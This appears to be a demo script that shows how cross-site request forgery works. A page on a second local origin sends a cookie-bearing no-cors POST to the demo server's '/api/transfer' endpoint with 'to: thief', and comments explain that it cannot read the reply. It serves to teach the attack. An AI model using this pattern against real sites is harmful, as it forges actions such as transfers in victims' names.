// What a page of another site can do: send a post that the visitor's browser may add cookies to. It cannot read the answer.

// The only place that it may post to (its policy says the same) is this server under its other name.
const target = new URL(location.href);
target.hostname = location.hostname === "localhost" ? "127.0.0.1" : "localhost";
const url = new URL("/api/transfer", target.origin);
url.searchParams.set("attack", location.hash.slice(1));

document.querySelector("#here").textContent = location.origin;
const said = document.querySelector("#said");
said.textContent = `It sends POST ${url.origin}${url.pathname} in your name …`;
try {
  // `no-cors` is what a form does: no preflight asks first, and the answer cannot be read.
  // With `origin` the post says where it comes from, as most sites let it; with `no-referrer` it would say null.
  const how = { credentials: "include", referrerPolicy: "origin" };
  await fetch(url, { ...how, method: "POST", mode: "no-cors", body: new URLSearchParams({ to: "thief" }) });
  said.textContent = `It has sent POST ${url.origin}${url.pathname}, and cannot read the answer.`;
} catch {
  said.textContent = "The browser did not even send its post.";
}
